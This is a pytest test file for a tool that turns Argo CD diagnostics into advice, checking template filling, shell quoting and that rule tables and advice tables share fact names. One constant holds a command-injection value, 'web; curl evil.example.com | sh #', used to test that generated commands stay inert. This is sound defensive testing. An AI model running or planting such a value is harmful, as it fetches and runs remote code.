"""Advice as data: what an entry of a table becomes, and that rules and tables know each other's words."""

from __future__ import annotations

import importlib.util
import re
import shlex
from collections.abc import Callable, Iterator, Mapping
from datetime import UTC, datetime
from pathlib import Path
from string import Template
from types import ModuleType
from typing import Any

import pytest
from argolint_rules.health import _meaning
from argolint_rules.shared import fields, pod_fixes, pods
from argolint_rules.shared.messages import catalogue
from argolint_rules.sync import _comparison, _refusals, invalid_spec
from argolint_rules.sync._failures import Failed

import argolint.edits.advice as advice_module
from argolint.application.app import App, app_from_list
from argolint.application.fleet import Fleet
from argolint.application.resource import Health, Node, Resource
from argolint.edits.advice import Shell, advice
from argolint.messages import Entry
from argolint.model import ResourceId
from argolint.plugins import load_rules
from argolint.values.knowledge import dump, load

HOSTILE = "web; curl evil.example.com | sh #"


@pytest.fixture
def table(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Callable[..., str]:
    """Makes a package with a table beside its rules, and gives its name."""

    def made(**topics: Any) -> str:
        package = tmp_path / f"family_{tmp_path.name}"
        package.mkdir()
        (package / "__init__.py").touch()
        (package / "advice.yaml").write_text(dump([topics]), encoding="utf-8")
        monkeypatch.syspath_prepend(str(tmp_path))
        return package.name

    return made


def entry(**more: Any) -> dict[str, Any]:
    return {"title": "Do it", "target": "live", "where": "there", "kind": "text", "content": "so", **more}


def application(spec: Mapping[str, Any], name: str = "web") -> App:
    raw = {"metadata": {"name": name, "namespace": "argocd"}, "spec": spec, "status": {}}
    now = datetime(2026, 1, 1, tzinfo=UTC)
    return app_from_list(raw, server="", cluster="https://k.example.com", control_plane="argocd", observed_at=now)


def test_facts_fill_every_text_of_an_entry(table: Callable[..., str]) -> None:
    package = table(t=[entry(title="Do $what", where="${what}s", content="$what costs $$5", caveat="not $what")])
    (fix,) = advice(package, "t", {"what": HOSTILE})
    assert (fix.title, fix.where, fix.caveat) == (f"Do {HOSTILE}", f"{HOSTILE}s", f"not {HOSTILE}")
    assert (fix.edit.kind, fix.edit.content) == ("text", f"{HOSTILE} costs $5")


def test_a_name_in_a_command_stays_one_word_whatever_it_holds(table: Callable[..., str]) -> None:
    package = table(t=[entry(kind="command", content="kubectl $options get $kind $name   $then")])
    facts = {"options": ["-n", HOSTILE], "kind": "pod", "name": HOSTILE, "then": Shell('# "$(date)"')}
    (fix,) = advice(package, "t", facts)
    command = str(fix.edit.content)
    assert command.endswith('   # "$(date)"')
    assert shlex.split(command.partition('   # "')[0]) == ["kubectl", "-n", HOSTILE, "get", "pod", HOSTILE]


def test_a_patch_takes_facts_of_any_type(table: Callable[..., str]) -> None:
    operation = {"op": "add", "path": "$base/on", "value": {"list": "$things", "flag": True, "text": "a $word"}}
    patch = entry(kind="json-patch", content=[operation])
    package = table(t=[patch], whole=[entry(kind="json-patch", content="$ops")])
    facts = {"base": "/spec", "things": [1, {"a": None}], "word": "b", "ops": [{"op": "remove", "path": "/x"}]}
    assert advice(package, "t", facts)[0].edit.content == [
        {"op": "add", "path": "/spec/on", "value": {"list": [1, {"a": None}], "flag": True, "text": "a b"}}
    ]
    assert advice(package, "whole", facts)[0].edit.content == facts["ops"]


@pytest.mark.parametrize(
    ("conditions", "counts"),
    [
        ({}, True),
        ({"when": "full"}, True),
        ({"when": "empty"}, False),
        ({"unless": "empty"}, True),
        ({"unless": "full"}, False),
        ({"when": ["full", "empty"]}, False),
        ({"unless": ["full", "empty"]}, False),
        ({"when": "full", "unless": "empty"}, True),
    ],
)
def test_conditions_are_facts_that_hold_something(
    table: Callable[..., str], conditions: Mapping[str, Any], counts: bool
) -> None:
    package = table(t=[entry(**conditions)])
    assert bool(advice(package, "t", {"full": "x", "empty": ""})) is counts


def test_only_a_patch_of_the_object_names_it(table: Callable[..., str]) -> None:
    package = table(t=[entry(of_object=True, safe=True), entry()])
    web = ResourceId("apps", "Deployment", "prod", "web")
    assert [(fix.resource, fix.safe) for fix in advice(package, "t", {}, web)] == [(web, True), (None, False)]
    assert advice(package, "no such topic", {}) == ()


def _texts(node: Any) -> Iterator[str]:
    if isinstance(node, str):
        yield node
    for child in node.values() if isinstance(node, dict) else node if isinstance(node, list) else ():
        yield from _texts(child)


def _needed(package: str, prefix: str = "") -> dict[str, set[str]]:
    """The facts that each topic of a table asks for."""
    found: dict[str, set[str]] = {}
    for topic, entries in load(package, "advice.yaml").items():
        for each in entries if topic.startswith(prefix) else ():
            conditions = {name for key in ("when", "unless") for name in advice_module._names(each.get(key))}
            texts = [t for key in ("title", "where", "content", "caveat") for t in _texts(each.get(key, ""))]
            assert [text for text in texts if not Template(text).is_valid()] == [], topic
            found.setdefault(topic, set()).update(conditions, *(Template(text).get_identifiers() for text in texts))
    return found


def _groups(entry: Entry) -> set[str]:
    """The facts that an entry of the catalogue reads."""
    return {name for _, id_, pattern in catalogue().patterns() if id_ == entry.id for name in pattern.groupindex}


def _missing(needed: Mapping[str, set[str]], given: Any) -> dict[str, set[str]]:
    return {topic: names - set(given) for topic, names in needed.items() if names - set(given)}


SOURCE = {"repoURL": "https://git.example.com/a.git", "path": HOSTILE, "targetRevision": HOSTILE}
APP = application({"source": SOURCE, "destination": {"namespace": HOSTILE}}, name=HOSTILE)
FLEET = Fleet("", "v3.5.1", {}, (APP,))


def test_comparison_errors_have_advice_by_every_cause_that_is_known() -> None:
    needed = _needed("argolint_rules.sync", "comparison-error/")
    entry = _comparison.Meaning("revision", "revision", "", {})
    facts = _comparison._facts(APP, FLEET, entry, SOURCE, "/spec/source", "/spec/source/path", ("/a",), "x", None)
    assert _missing(needed, facts) == {}
    known = {f"comparison-error/{e.advice}" for e in catalogue().entries if e.rule == "comparison-error"}
    assert set(needed) == {
        *known,
        *(
            f"comparison-error/{t}"
            for t in ("remembered", "refused", "plugin-env", "path-hydrated", "revision-former", "health-built-in")
        ),
    }


def test_refused_applications_have_advice_by_every_cause() -> None:
    needed = _needed("argolint_rules.sync", "invalid-spec/")
    of_one = {"server", "namespace", "pattern"}  # one server that the project permits
    assert _missing(needed, {*invalid_spec._facts(APP, FLEET, "x"), *of_one}) == {}
    causes = {f"invalid-spec/{cause}" for cause in load_rules()["invalid-spec"].causes}
    assert set(needed) == {
        *causes,
        "invalid-spec/denied-destination",
        "invalid-spec/no-namespace",
        "invalid-spec/no-project",
        "invalid-spec/permitted-destination",
    }


def test_failed_syncs_have_advice_by_every_cause() -> None:
    needed = _needed("argolint_rules.sync", "sync-failed/")
    said = {
        "sync-failed/no-namespace": {"missing_namespace"},
        "sync-failed/namespace-refused": {"missing_namespace"},
        "sync-failed/left-over": {"field", "selected", "by_kubectl", "patched", "syncable"},
        "sync-failed/quote-at": {"at", "patch", "spelling"},
        "sync-failed/quantity-at": {"at", "patch"},
        "sync-failed/retype": {"at", "expected", "written"},
        "sync-failed/subject-namespace-at": {"patch"},
        "sync-failed/ingress-form-at": {"patch"},
        "sync-failed/unquote-at": {"at", "patch"},
        "sync-failed/own-webhook": {"workload", "wave", "picked", "up"},
    }
    for entry in (e for e in catalogue().entries if e.rule == "sync-failed" and e.advice != e.cause):
        named = _groups(entry)
        said[f"sync-failed/{entry.advice}"] = named | ({"quoted_group"} if "group" in named else set())
    facts = {*_refusals._facts(APP, FLEET, Failed(None, "x", "sync-failed", "unknown")), "permission"}
    assert {topic: left for topic, names in needed.items() if (left := names - facts - said.get(topic, set()))} == {}
    causes = {f"sync-failed/{cause}" for cause in load_rules()["sync-failed"].causes}
    others = {
        f"sync-failed/{topic}"
        for topic in (
            "deletion-refused",
            "empties",
            "hook",
            "hook-deadline",
            "gone",
            "recovered",
            "stale-version",
            "exists-already",
        )
    }
    assert set(needed) == {*causes, *said, *others}


def test_what_is_unhealthy_has_advice_by_every_reason_that_is_known() -> None:
    needed = _needed("argolint_rules.health", "unhealthy/")
    facts = _meaning.facts_of(Resource(ResourceId("apps", "Deployment", "prod", "web")))
    assert _missing(needed, {*facts, "reason", "what", "sort"}) == {}
    known = {f"unhealthy/{entry.advice}" for entry in catalogue().entries if entry.rule == "unhealthy"}
    assert set(needed) == {*known, "unhealthy/names-pod", "unhealthy/no-check", "unhealthy/status-unread"}


def test_a_health_check_to_add_reads_the_condition_that_failed() -> None:
    facts = _meaning.facts_of(Resource(ResourceId("example.org", "Ferry", "boats", "ferry")))
    (fix,) = advice("argolint_rules.health", "unhealthy/no-check", {**facts, "what": "Synced", "sort": "Refused"})
    assert fix.where == "ConfigMap argocd-cm, resource.customizations.health.example.org_Ferry"
    assert 'if c.type == "Synced" and seen == obj.metadata.generation then' in str(fix.edit.content)
    assert 'elseif c.status == "False" and c.reason == "Refused" then' in str(fix.edit.content)


def test_fields_that_are_refused_have_advice_by_every_sort() -> None:
    needed = _needed("argolint_rules.shared", "field/")
    given = {"object", "pointer", "detail", "others", "operations", "labels", "texts", "spelling"}
    assert _missing(needed, given) == {}
    assert set(needed) == {
        f"field/{topic}"
        for topic in (*fields._TOPICS.values(), "selector", "invalid", "text", "number", "remove", "known")
    }


def test_pods_that_do_not_run_have_advice_by_every_cause() -> None:
    needed = _needed("argolint_rules.shared", "pods/")
    node = Node(ResourceId("", "Pod", "prod", "web-1"), "u", (), Health(), None, (), {})
    trouble = pods.Trouble("unknown", "wait", "nothing", node, None, failed=True)
    facts = pod_fixes._facts(APP, ResourceId("apps", "Deployment", "prod", "web"), None, trouble)
    said = {"what", "sort", "most", "elsewhere"}  # of the driver's message
    lacks = {"keys", "certificate", "near", "patch", "hashed"}  # of what is missing
    login = {
        "auth",
        "login",
        "denied",
        "right",
        "role",
        "mount",
        "account",
        "account_ns",
        "audiences",
    }  # of a maker that Vault refuses
    made = {
        "maker",
        "made",
        "command",
        "there",
        "app",
        "policy",
        "copier",
        "copier_command",
        *login,
    }  # of what makes a Secret
    after = {"hook", "unseen", "makes", "ends"}  # of a hook that makes it too late, or is gone
    later = {"missing", "wave", "later"}  # of what the same application brings
    later |= {
        "restart",
        "gated",
        "gates",
        "scheduler",
        "uid",
        "has",
        "file",
        "holder",
        "key",
        "ill",
        "cron",
        "logs",
    }  # of what the pods' own spec says
    assert (
        _missing(
            needed,
            {
                *facts,
                "missing_kind",
                "missing_name",
                "missing_key",
                "bringer",
                "brought",
                *said,
                *lacks,
                *made,
                *after,
                *later,
            },
        )
        == {}
    )
    stages = {"pod", "scheduling", "image", "volume"}
    by_message_alone = {"reference", "limit", "policy", "network"}
    known = {
        f"pods/{of}"
        for e in catalogue().entries
        if e.when.stage <= stages and e.cause
        for of in {e.cause, e.advice} - by_message_alone
    }
    assert set(needed) == {
        *known,
        *(f"pods/missing{more}" for more in ("", "-hook", "-key", "-made", "-program")),
        "pods/constraint",
        "pods/policy",
        "pods/security",
        "pods/long-name",
        "pods/refused",
        "pods/no-program",
        "pods/pulling",
        "pods/image-moved",
        "pods/image-secret",
        "pods/image-secret-kept",
        "pods/scheduler",
        "pods/unknown",
    }


def test_advice_on_external_secrets_asks_for_the_facts_that_its_head_names() -> None:
    head = "".join(
        line[1:]
        for line in (Path(pods.__file__).parents[1] / "secrets/advice.yaml").read_text("utf-8").splitlines()
        if line.startswith("#")
    )
    facts = re.sub(r"\([^)]*\)", "", head.partition("Facts:")[2].partition(". Sources")[0])
    given = {name.strip() for name in facts.split(",")}
    assert "sync" in given
    assert _missing(_needed("argolint_rules.secrets"), given) == {}


@pytest.mark.parametrize("topic", ["kustomize", "path", "manifest", "revision", "helm", "symlink", "signature"])
def test_what_a_repository_calls_itself_runs_nothing(topic: str) -> None:
    """A change may bring any path, revision and name: copied into a shell, the command does what its words say, and no more."""
    entry = _comparison.Meaning(topic, topic, "", dict.fromkeys(("file", "value", "id", "plugin"), HOSTILE))
    facts = _comparison._facts(APP, FLEET, entry, SOURCE, "/spec/source", "", (), HOSTILE, None)
    for fix in advice("argolint_rules.sync", f"comparison-error/{topic}", facts):
        if fix.edit.kind == "command":
            assert "curl" not in shlex.split(str(fix.edit.content).replace(";", " ; "))


def _docs() -> ModuleType:
    spec = importlib.util.spec_from_file_location("docs", Path(__file__).parents[1] / "scripts" / "docs.py")
    assert spec is not None
    assert spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


DOCS = _docs()
TABLES = {package: load(package, "advice.yaml") for package in DOCS._TABLES}
ALL = [(topic, entry) for table in TABLES.values() for topic, entries in table.items() for entry in entries]


def _leading(topic: str) -> list[Entry]:
    name = topic.partition("/")[2] or topic
    return [*DOCS.leading_to(name), *DOCS.leading_to(name.rpartition("/")[2])]


def test_every_piece_of_advice_says_what_must_hold() -> None:
    """A topic is reached by a message of the catalogue, or says in `holds` what a rule has seen before."""
    assert [t for table in TABLES.values() for t, entries in table.items() if not DOCS.conditions(t, entries)] == []


def _presuming(pattern: str) -> list[tuple[str, Mapping[str, Any]]]:
    return [(t, e) for t, e in ALL if re.search(pattern, f"{e['title']}\n{e.get('content')}\n{e.get('caveat')}")]


def test_advice_presumes_nothing_that_only_a_stage_tells() -> None:
    """Where no more is known than the stage, neither credentials nor a CA nor a value are presumed to be wrong, and nothing is to be installed."""
    presumes = re.compile(r"\b(?:CA|certificates?|Set the value|[Ii]nstall|[Rr]egister|[Rr]enew)\b")
    stages = {t for t, _ in ALL if (led := _leading(t)) and all(e.knows == "stage" for e in led)}
    assert stages
    assert [(t, e["title"]) for t, e in ALL if t in stages and presumes.search(e["title"])] == []


def test_more_attempts_are_advised_only_where_attempts_can_help() -> None:
    found = _presuming(r"syncPolicy\.retry|retry\.limit|more attempts")
    assert found
    helps = {
        "made-by/same",
        "comes-later/namespace",
        "comes-later/namesake",
        "sync-failed/own-webhook",
        "owner-ill/starts",
        "sync-failed/webhook-kind",
    }  # it comes up meanwhile
    assert [t for t, _ in found if t not in helps and not any(e.passes for e in _leading(t))] == []


def test_logs_are_asked_only_of_what_has_logs() -> None:
    """kubectl shows logs of pods and of the workloads that it knows; of a custom resource it cannot."""
    asked = [(t, found) for t, e in ALL for found in re.findall(r"kubectl [^\n|]*?\blogs (\S+)", str(e.get("content")))]
    known = re.compile(r"(?:deploy|deployment|statefulset|daemonset|job)/|\$(?:logs|job|pod)\b|-l\b")
    assert asked
    assert [(t, found) for t, found in asked if not known.match(found)] == []


def test_a_namespace_is_made_only_where_the_destination_lacks_it() -> None:
    given = [t for t, e in _presuming(r"CreateNamespace=true|\$creation") if e.get("kind") == "json-patch"]
    assert given == ["comes-later/phase", "sync-failed/no-namespace"]


def test_a_crd_is_installed_only_where_the_message_says_that_it_is_absent() -> None:
    asked = [(t, e["title"]) for t, e in ALL if re.search(r"\b[Ii]nstall\b[^.]*\bCRD", e["title"])]
    absent = re.compile(r"not (?:found|installed|exist)|no matches for kind|could not find|missing", re.IGNORECASE)
    assert [t for t, _ in asked if not any(absent.search(s.text) for e in _leading(t) for s in e.seen)] == []
